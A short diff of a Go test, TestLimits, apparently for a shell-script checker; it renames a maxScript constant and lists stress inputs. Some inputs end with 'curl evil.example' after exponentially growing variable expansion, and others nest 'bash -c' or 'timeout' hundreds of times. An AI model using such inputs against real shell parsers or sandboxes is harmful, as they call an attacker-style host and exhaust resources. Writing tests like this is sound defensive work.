@@ -162,7 +162,7 @@ func TestLimits(t *testing.T) {
 		}(),
 		"growing":         "x=a; " + strings.Repeat("x=$x$x; ", 40) + "curl evil.example",
 		"growing words":   "x='a b'; " + strings.Repeat("x=\"$x $x\"; ", 24) + "ls $x; curl evil.example",
-		"long":            strings.Repeat("#", maxScript+1),
+		"long":            strings.Repeat("#", MaxScript+1),
 		"shell in shell":  strings.Repeat("bash -c ", 300) + "ls",
 		"wrapped wrapped": strings.Repeat("timeout 5 ", 3_000) + "ls",
 	} {
